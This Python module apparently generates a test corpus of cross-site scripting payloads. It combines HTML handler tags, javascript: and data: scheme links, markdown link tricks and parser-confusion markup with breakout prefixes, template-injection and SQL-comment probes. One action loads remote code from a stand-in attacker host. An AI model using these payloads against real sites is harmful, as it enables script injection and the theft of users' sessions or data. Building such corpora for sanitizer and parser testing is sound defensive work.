"""Texts that try to become more than text: handlers, schemes, broken tags and what parsers disagree about."""

from itertools import product

ACTS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "import('//evil.example/x')", "eval(name)")
ELEMENTS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<marquee onstart={}>x</marquee>",
    "<style>@import 'javascript:{}';</style>",
    "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=javascript:{}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<xmp><p title='</xmp><script>{}</script>'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><script>{}</script>]]>",
    "<select><option></select><img src=x onerror={}>",
    "<p/onclick={}/style=position:fixed>x",
    "<<script>{}//<</script>",
)
MARKDOWN = (
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java\tscript:{})",
    "[x](&#106;avascript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](vbscript:{})",
    '![x](x" onerror="{})',
    "![x](javascript:{})",
    '[x](https://x.example "y" onmouseover="{}")',
    "[x](<javascript:{}>)",
    "<javascript:{}>",
    "[a]: javascript:{}\n\n[a]",
    "`<script>{}</script>`",
    "```html\n<script>{}</script>\n```",
    "> <script>{}</script>",
    "- <img src=x onerror={}>",
    'https://x.example/"onmouseover="{}',
    "https://x.example/<script>{}</script>",
    "[x](https://x.example/'onclick='{})",
    "[<img src=x onerror={}>](https://x.example)",
    "**<svg onload={}>**",
    "[x](\\javascript:{})",
    "[x](javascript&colon;{})",
)
BREAKS = (
    "",
    "\"'>",
    "</textarea>",
    "</title>",
    "</script>",
    "]]>",
    "-->",
    "{{{{7*7}}}}",
    "{{% raw %}}",
    "\u2028",
    "%00",
    "' --",
)

PAYLOADS = tuple(
    dict.fromkeys(break_ + form.replace("{}", act) for break_, form, act in product(BREAKS, ELEMENTS + MARKDOWN, ACTS))
)
# As many as fit a name of sixty characters.
NAMES = tuple(payload for payload in PAYLOADS if len(payload) <= 60 and payload.isprintable())
